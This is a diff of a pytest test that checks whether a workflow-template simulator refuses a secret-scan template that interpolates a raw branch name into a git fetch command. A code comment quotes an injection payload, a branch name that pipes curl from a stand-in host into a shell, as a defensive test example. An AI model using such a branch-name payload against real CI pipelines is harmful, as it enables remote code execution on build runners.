@@ -171,10 +171,12 @@ def test_simulator_shows_the_injected_branch_as_an_empty_git_ref(
 def test_simulator_refuses_a_template_that_would_run_the_branch_name(
     tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    template = (PROJECT_ROOT / "workflows" / "secret-scan.yaml").read_text().replace(
-        'git fetch -q --depth 1 origin "$HEAD_COMMIT" || git fetch -q --depth 1 origin "$GIT_REF"',
-        'git fetch -q --depth 1 origin "$HEAD_COMMIT" || git fetch -q --depth 1 origin {{workflow.parameters.git_ref}}',
+    shipped = (PROJECT_ROOT / "workflows" / "secret-scan.yaml").read_text()
+    template = shipped.replace(
+        'fetch "+$HEAD_COMMIT:refs/scan/head" || fetch "+$GIT_REF:refs/scan/head"',
+        'fetch "+$HEAD_COMMIT:refs/scan/head" || fetch {{workflow.parameters.git_ref}}',
     )
+    assert template != shipped
     # The well-known git_ref is guarded by its binding (a branch like x$(curl${IFS}evil|sh) gives ""); a pipeline
     # that maps the raw ref itself makes git_ref the delivery's text, which may reach the clone through env only.
     project = _project(tmp_path, template, parameters={"git_ref": "ref"})
